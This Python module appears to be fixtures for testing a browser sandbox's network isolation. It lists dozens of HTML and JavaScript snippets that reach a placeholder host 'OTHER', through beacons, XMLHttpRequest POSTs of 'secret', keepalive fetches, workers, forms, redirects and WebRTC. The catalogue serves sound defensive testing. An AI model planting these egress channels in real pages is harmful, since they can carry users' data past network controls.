"""Ways by which a page may try to reach another host: name -> html. ``OTHER`` is that host, ``OWN`` the page's own."""

from __future__ import annotations

_WORKER = "new Worker(URL.createObjectURL(new Blob([`{}`], {{type: 'text/javascript'}})));"


def _script(code: str) -> str:
    return f"<p>page</p><script>{code}</script>"


HTML = {
    "image": '<img src="http://OTHER/">',
    "image at a name": '<img src="http://localhost:PORT/">',
    "image at another spelling": '<img src="http://2130706433:PORT/"><img src="http://[::ffff:127.0.0.1]:PORT/">',
    "image set": '<picture><source srcset="http://OTHER/"><img src="/none"></picture>',
    "svg image": '<svg><image href="http://OTHER/" width=9 height=9 /></svg>',
    "svg use": '<svg><use href="http://OTHER/a.svg#a" /></svg><img src="http://OTHER/">',
    "image button": '<input type=image src="http://OTHER/">',
    "icon": '<link rel=icon href="http://OTHER/"><img src="http://OTHER/">',
    "video": '<video src="http://OTHER/" autoplay muted></video>',
    "video poster": '<video poster="http://OTHER/"></video>',
    "audio": '<audio src="http://OTHER/" preload=auto></audio>',
    "object": '<object data="http://OTHER/"></object>',
    "embed": '<embed src="http://OTHER/">',
    "script": '<script src="http://OTHER/"></script>',
    "module": '<script type=module src="http://OTHER/"></script>',
    "style sheet": '<link rel=stylesheet href="http://OTHER/">',
    "css import": '<style>@import "http://OTHER/";</style>',
    "css background": '<style>body { background: url("http://OTHER/") }</style>',
    "css font": '<style>@font-face { font-family: f; src: url("http://OTHER/") } p { font-family: f }</style><p>text',
    "name looked up": '<link rel=dns-prefetch href="http://localhost:PORT/"><img src="http://localhost:PORT/">',
    "prefetch": '<link rel=prefetch href="http://OTHER/">',
    "preload": '<link rel=preload as=script href="http://OTHER/">',
    "module preload": '<link rel=modulepreload href="http://OTHER/">',
    "speculative prefetch": '<script type=speculationrules>{"prefetch": [{"source": "list", "eagerness": "immediate", '
    '"urls": ["http://OTHER/"]}]}</script><img src="http://OTHER/">',
    "prerender": '<script type=speculationrules>{"prerender": [{"source": "list", "eagerness": "immediate", '
    '"urls": ["/redirect"]}]}</script><img src="/redirect">',
    "frame": '<iframe src="http://OTHER/"></iframe>',
    "frame of text": """<iframe srcdoc='<img src="http://OTHER/">'></iframe>""",
    "frame of data": "<iframe src=\"data:text/html,<script>fetch('http://OTHER/')</script>\"></iframe>",
    "frame set": '<frameset cols="*"><frame src="http://OTHER/"></frameset>',
    "meta refresh": '<meta http-equiv=refresh content="0;url=http://OTHER/">',
    "redirected image": '<img src="/redirect">',
    "redirected frame": '<iframe src="/redirect"></iframe>',
    "redirected script": '<script src="/redirect"></script>',
    "redirected twice": '<img src="/twice">',
    "link in a header": '<img src="/linked"><iframe src="/linked"></iframe>',
    "report of a policy": '<iframe src="/reporting"></iframe>',
    "fetch": _script("fetch('http://OTHER/', {mode: 'no-cors'})"),
    "fetch that stays alive": _script("fetch('http://OTHER/', {mode: 'no-cors', keepalive: true}); location = '/'"),
    "redirected fetch": _script("fetch('/redirect', {mode: 'no-cors'})"),
    "redirected post": _script("fetch('/redirect307', {mode: 'no-cors', method: 'POST', body: 'secret'})"),
    "request": _script("const r = new XMLHttpRequest(); r.open('POST', 'http://OTHER/'); r.send('secret')"),
    "beacon": _script("navigator.sendBeacon('http://OTHER/', 'secret')"),
    "beacon on leaving": _script("onpagehide = () => navigator.sendBeacon('http://OTHER/', 'x'); location = '/'"),
    "event source": _script("new EventSource('http://OTHER/')"),
    "socket": _script("new WebSocket('ws://OTHER/')"),
    "encrypted socket": _script("new WebSocket('wss://OTHER/')"),
    "encrypted image": '<img src="https://OTHER/">',
    "dynamic import": _script("import('http://OTHER/a.js')"),
    "image without a document": _script("new Image().src = 'http://OTHER/'"),
    "worklet": _script("CSS.paintWorklet?.addModule('http://OTHER/'); new Image().src = 'http://OTHER/'"),
    "worker's fetch": _script(_WORKER.format("fetch('http://OTHER/', {mode: 'no-cors'})")),
    "worker's import": _script(_WORKER.format("importScripts('http://OTHER/')")),
    "worker's socket": _script(_WORKER.format("new WebSocket('ws://OTHER/')")),
    "worker's redirect": _script("new Worker('/fetcher.js')"),
    "shared worker": _script("new SharedWorker('/fetcher.js')"),
    "service worker": _script("navigator.serviceWorker?.register('/fetcher.js'); new Worker('/fetcher.js')"),
    "navigation": _script("location = 'http://OTHER/'"),
    "replacement": _script("location.replace('http://OTHER/')"),
    "redirected navigation": _script("location = '/redirect'"),
    "script address": _script("location = `javascript:void fetch('http://OTHER/', {mode: 'no-cors'})`"),
    "blob navigation": _script(
        "location = URL.createObjectURL(new Blob(['<img src=\"http://OTHER/\">'], {type: 'text/html'}))"
    ),
    "new window": _script("open('http://OTHER/')"),
    "new window of a frame": "<iframe id=f></iframe>"
    + _script("f.contentWindow.open('http://OTHER/', '', 'noopener')"),
    "new window by a clean function": '<iframe id=f sandbox="allow-scripts allow-popups" '
    "srcdoc='<script>open(\"http://OTHER/\")</script>'></iframe>",
    "link in a new tab": '<a id=a target=_blank href="http://OTHER/">a</a><script>a.click()</script>',
    "link with a ping": '<a id=a ping="http://OTHER/" href="#">a</a><script>a.click()</script>',
    "download": '<a id=a download href="http://OTHER/">a</a><script>a.click()</script>',
    "redirected download": '<a id=a download href="/redirect">a</a><script>a.click()</script>',
    "form": '<form id=f method=post action="http://OTHER/"><input name=a value=b></form><script>f.submit()</script>',
    "form in a new tab": '<form id=f target=_blank method=post action="http://OTHER/"></form><script>f.submit()</script>',
    "form in a frame": '<iframe name=i></iframe><form id=f target=i action="http://OTHER/"></form>'
    "<script>f.requestSubmit()</script>",
    "redirected form": '<form id=f method=post action="/redirect307"><input name=a></form><script>f.submit()</script>',
}
"""Each reaches the other host where that is allowed."""

_STUN = (
    "new C({iceServers: [{urls: 'stun:OTHER'}, {urls: 'turn:OTHER?transport=tcp', username: 'a', credential: 'b'}]})"
)
_GATHER = f"const c = {_STUN}; c.createDataChannel('d'); c.createOffer().then((o) => c.setLocalDescription(o));"

BARRED = {
    "preconnect": '<link rel=preconnect href="http://OTHER/">',
    "peer connection": _script(f"const C = RTCPeerConnection; {_GATHER}"),
    "peer connection of a new frame": "<iframe id=f></iframe><script>"
    f"const C = f.contentWindow.RTCPeerConnection || RTCPeerConnection; {_GATHER}</script>",
    "transport over UDP": _script("new WebTransport('https://OTHER/')"),
    "worker's transport": _script(_WORKER.format("new WebTransport('https://OTHER/')")),
    "another browser's scheme": _script("location = 'ftp://OTHER/'"),
    "source of a page": _script("location = 'view-source:http://OTHER/'"),
    "worker of another host": _script("new Worker('http://OTHER/')"),
    "data navigation": _script("location = 'data:text/html,<img src=\"http://OTHER/\">'"),
}
"""These do not, even where it is allowed: the browser or the environment has no such way."""
